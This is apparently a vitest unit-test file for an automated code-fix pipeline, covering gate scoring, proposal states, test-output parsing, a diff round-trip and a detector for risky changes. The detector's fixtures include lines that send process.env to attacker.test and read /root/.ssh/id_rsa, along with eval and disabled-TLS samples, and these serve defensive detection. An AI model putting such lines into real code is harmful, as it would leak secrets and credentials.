// What is concluded from rungs, outputs and words: gate, confidence, states, reasons, reports, diffs.
// Must never need a sandbox; the integration tests have it.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { rungs, type Rung } from '../../../coordinator/repository/repository.ts';
import { findConcerns } from '../../../coordinator/solutions/edits/concerns.ts';
import { diffFiles } from '../../../coordinator/solutions/edits/unified-diff.ts';
import { computeConfidence, judgeGate, rankLadder } from '../../../coordinator/solutions/gate.ts';
import { beginProposal } from '../../../coordinator/solutions/new-proposal.ts';
import type { ProposalState, RungOutcome, RungResult } from '../../../coordinator/solutions/proposal.ts';
import { transition, type ProposalEvent } from '../../../coordinator/solutions/proposal-states.ts';
import { neutralise } from '../../../coordinator/solutions/neutral-text.ts';
import { findRepository } from '../../../coordinator/solutions/responsibility.ts';
import { compareReason } from '../../../coordinator/solutions/same-reason.ts';
import { ranNoTest, readTestNames } from '../../../coordinator/solutions/test-output.ts';
import { sampleRepository } from '../../support/solution-samples.ts';

function ladder(...outcomes: readonly RungOutcome[]): RungResult[] {
  return outcomes.map((outcome, index) => ({ rung: rungs[index] as Rung, outcome, command: '', exitStatus: 0, durationMs: 1, output: '' }));
}

describe('the gate', () => {
  it('passes at its rung or above, and never over a failure', () => {
    const proven = ladder('passed', 'passed', 'passed', 'skipped', 'passed', 'skipped');
    expect(judgeGate(proven, 'tests', 0).gatePassed).toBe(true);
    expect(judgeGate(proven, 'builds', 0).gatePassed).toBe(true);
    expect(judgeGate(proven, 'reproduced', 0).gatePassed).toBe(false);
    expect(judgeGate(ladder('passed', 'passed', 'passed', 'passed', 'failed', 'skipped'), 'builds', 0).gatePassed).toBe(false);
  });

  it('ranks a higher climb over a lower one, and any failure last', () => {
    const heights = [
      ladder('passed', 'passed', 'failed'),
      ladder('passed', 'passed', 'passed'),
      ladder('passed', 'passed', 'passed', 'passed', 'passed'),
    ].map(rankLadder);
    expect(heights).toEqual(heights.toSorted((a, b) => a - b));
  });

  it('gives more confidence for more proof, and almost none after a failure', () => {
    const facts = { locations: [], suspects: [], changedPaths: ['a.js'], changedLines: 3 };
    const tested = computeConfidence({ ...facts, results: ladder('passed', 'passed', 'passed', 'passed', 'passed', 'skipped') });
    const reproduced = computeConfidence({ ...facts, results: ladder('passed', 'passed', 'passed', 'passed', 'passed', 'passed') });
    expect(reproduced).toBeGreaterThan(tested);
    expect(reproduced).toBeLessThanOrEqual(0.95);
    const turned = ladder('passed', 'passed', 'passed', 'passed', 'passed', 'skipped').map((one) => ({
      ...one,
      showsFix: one.rung === 'tests',
    }));
    expect(computeConfidence({ ...facts, results: turned })).toBe(reproduced);
    expect(computeConfidence({ ...facts, results: ladder('passed', 'passed', 'passed', 'passed', 'failed') })).toBeLessThan(0.1);
  });
});

describe('a proposal', () => {
  const rows: readonly [ProposalState, ProposalEvent, ProposalState][] = [
    ['preparing', 'context-ready', 'proposing'],
    ['proposing', 'edits', 'validating'],
    ['proposing', 'no-fix', 'diagnosed'],
    ['validating', 'gate-passed', 'publishing'],
    ['validating', 'rungs-climbed', 'awaiting-approval'],
    ['validating', 'gate-not-passed', 'diagnosed'],
    ['awaiting-approval', 'approve', 'publishing'],
    ['awaiting-approval', 'reject', 'rejected'],
    ['publishing', 'delivered', 'published'],
    ['publishing', 'fail', 'failed'],
  ];
  it.each(rows)('goes from %s by %s to %s', (from, event, to) => {
    expect(transition({ ...beginProposal('incident', 0), state: from }, event, 'why', 5)).toMatchObject({
      state: to,
      stateReason: 'why',
      updatedAtMs: 5,
    });
  });
  it.each<[ProposalState, ProposalEvent]>([
    ['published', 'fail'],
    ['rejected', 'approve'],
    ['diagnosed', 'approve'],
    ['preparing', 'delivered'],
  ])('does not leave %s by %s', (from, event) => {
    expect(() => transition({ ...beginProposal('incident', 0), state: from }, event, '', 0)).toThrow(from);
  });
});

describe('a reproduction fails for the same reason', () => {
  const reason = { type: 'TypeError', message: "Cannot read properties of undefined (reading 'tier')", logged: '' };
  it.each([
    ["TypeError: Cannot read properties of undefined (reading 'tier')\n    at x", 'same'],
    ["Error: Cannot find module './app.js'", 'other'],
    ['RangeError: Invalid array length', 'other'],
    ['HTTP 500', 'unsaid'],
    ['', 'unsaid'],
  ])('%j: %s', (output, verdict) => {
    expect(compareReason(output, reason)).toBe(verdict);
  });
  it('also where only the log names the error', () => {
    expect(compareReason('KeyError: 7', { type: undefined, message: 'request failed', logged: 'request failed\nKeyError: 9' })).toBe(
      'same',
    );
  });
});

describe('test output', () => {
  it.each([
    ['✔ adds (1.2ms)\n✖ divides (0.3ms)', ['adds'], ['divides']],
    ['TAP version 13\nok 1 - adds\nnot ok 2 - divides', ['adds'], ['divides']],
    [
      'PASSED tests/test_a.py::test_one\nFAILED tests/test_a.py::test_two - assert 1 == 2',
      ['tests/test_a.py::test_one'],
      ['tests/test_a.py::test_two'],
    ],
    [
      'test_one (test_a.A.test_one) ... ok\ntest_two (test_a.A.test_two) ... FAIL',
      ['test_one (test_a.A.test_one)'],
      ['test_two (test_a.A.test_two)'],
    ],
    ['--- PASS: TestAdd (0.00s)\n--- FAIL: TestDivide (0.00s)', ['TestAdd'], ['TestDivide']],
  ])('of a known runner names what passed and failed', (output, passed, failed) => {
    const names = readTestNames(output);
    expect([[...names.passed], [...names.failed]]).toEqual([passed, failed]);
  });
});

describe('words for a forge', () => {
  it('mention nobody, close nothing, load nothing and keep no key', () => {
    const text = neutralise(
      '@admin closes #1 ![x](https://evil.test/a.png) <!-- hidden --> <img src=x> ghp_abcdefghijklmnopqrstuvwxyz0123 \u202e\u001b[31mred',
    );
    expect(text).not.toMatch(/@admin|closes #1|evil\.test|hidden|<img|ghp_|\u202e/);
    expect(text).not.toContain('\u001b');
    expect(text).toContain('red');
  });
});

describe('a service', () => {
  it('belongs to the repository whose pattern fits it best', () => {
    const wide = sampleRepository({ id: '1', name: 'all', services: ['*'] });
    const near = sampleRepository({ id: '2', name: 'shop', services: ['shop-*'] });
    const exact = sampleRepository({ id: '3', name: 'api', services: ['shop-api'] });
    expect(findRepository([wide, near, exact], 'shop-api')?.name).toBe('api');
    expect(findRepository([wide, near, exact], 'shop-web')?.name).toBe('shop');
    expect(findRepository([near, exact], 'billing')).toBeUndefined();
  });
});

describe('a diff', () => {
  it('applies with git and gives the new text', () => {
    const folder = mkdtempSync(join(tmpdir(), 'heph-diff-'));
    const text = fc
      .array(fc.constantFrom('a', 'b', 'c', '', '  d'), { maxLength: 12 })
      .chain((lines) => fc.constantFrom('', '\n').map((end) => lines.join('\n') + (lines.length > 0 ? end : '')));
    try {
      fc.assert(
        fc.property(text, text, (before, after) => {
          fc.pre(before !== after && before !== '' && after !== '');
          writeFileSync(join(folder, 'f.txt'), before);
          execFileSync('git', ['apply', '--unidiff-zero', '-'], {
            cwd: folder,
            input: diffFiles(new Map([['f.txt', before]]), { 'f.txt': after }),
            stdio: ['pipe', 'ignore', 'pipe'],
          });
          expect(readFileSync(join(folder, 'f.txt'), 'utf8')).toBe(after);
        }),
        { numRuns: 40 },
      );
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});

describe('a change that a person should see first', () => {
  it.each([
    ['https.Agent({})', 'https.Agent({ rejectUnauthorized: false })', 'tls_verification_disabled'],
    ['JSON.parse(body)', 'eval(body)', 'dynamic_eval'],
    ['start()', "fetch('https://attacker.test/' + x); start()", 'new_network_egress'],
    ["if (!user) throw new Error('401')", '', 'auth_removed'],
    ['run()', "open('/root/.ssh/id_rsa'); run()", 'sensitive_file_read'],
  ])('%s → %s', (before, after, reason) => {
    expect(findConcerns(new Map([['src/a.js', `${before}\n`]]), { 'src/a.js': `${after}\n` }).map((one) => one.reason)).toContain(reason);
  });

  it.each([
    ['package-lock.json', '{}', 'lockfile_change'],
    ['setup.py', 'setup()', 'build_script'],
    ['pip.conf', '[global]', 'protected_path'],
    ['conftest.py', 'x = 1', 'test_config_changed'],
    ['package.json', '{ "scripts": { "postinstall": "node x.js" } }', 'lifecycle_script'],
  ])('%s', (path, text, reason) => {
    const concerns = findConcerns(new Map([[path, '']]), { [path]: text });
    expect(concerns[0]).toMatchObject({ reason, weight: 'human' });
  });

  it.each([
    ['expect(total).toBe(42);', 'expect(total).toBeDefined();'],
    ['self.assertEqual(total, 42)', 'self.assertTrue(total)'],
    ['assert total == 42', 'pass'],
  ])('a test that demands less: %s → %s', (before, after) => {
    const concerns = findConcerns(new Map([['test/a.test.js', before]]), { 'test/a.test.js': after });
    expect(concerns.map(({ reason }) => reason)).toContain('assertion_weakened');
  });

  it.each([
    ["fetch('https://attacker.test/?' + JSON.stringify(process.env))", 'new_network_egress'],
    ["open('/root/.ssh/id_rsa').read()", 'sensitive_file_read'],
  ])('goes nowhere at all if it does what no fix does: %s', (added, reason) => {
    const concerns = findConcerns(new Map([['src/a.js', 'start()\n']]), { 'src/a.js': `${added}; start()\n` });
    expect(concerns.find((one) => one.reason === reason)?.weight).toBe('block');
  });

  it('may name an address with a person’s consent', () => {
    const concerns = findConcerns(new Map([['src/a.js', '']]), { 'src/a.js': "export const home = 'https://example.org/';" });
    expect(concerns.map(({ reason, weight }) => [reason, weight])).toEqual([['new_address', 'human']]);
  });

  it('is not an ordinary fix', () => {
    expect(findConcerns(new Map([['src/a.js', 'return a.b;\n']]), { 'src/a.js': 'return a?.b ?? 0;\n' })).toEqual([]);
  });
});

describe('a run without a test', () => {
  it.each([
    ['ℹ tests 0\nℹ suites 0\nℹ pass 0\n', true],
    ['1..0\n# tests 0\n# pass 0\n', true],
    ['\n----\nRan 0 tests in 0.000s\n\nOK\n', true],
    ['============ no tests ran in 0.01s ============\n', true],
    ['No test files found, exiting with code 0\n', true],
    ['?   \texample.org/gate\t[no test files]\n', true],
    ['ok  \texample.org/gate\t0.002s [no tests to run]\n', true],
    ['running 0 tests\n\ntest result: ok. 0 passed; 0 failed\n', true],
    ['?   \texample.org/cmd\t[no test files]\nok  \texample.org/gate\t0.002s\n', false],
    ['?   \texample.org/cmd\t[no test files]\n--- PASS: TestAdd (0.00s)\n', false],
    ['✔ adds (1ms)\nℹ tests 1\n', false],
    ['ℹ tests 0\n✔ adds (1ms)\nℹ tests 1\n', false],
    ['all is well\n', false],
    ['', false],
  ])('is told by what the runner says: %j', (output, expected) => {
    expect(ranNoTest(output)).toBe(expected);
  });
});
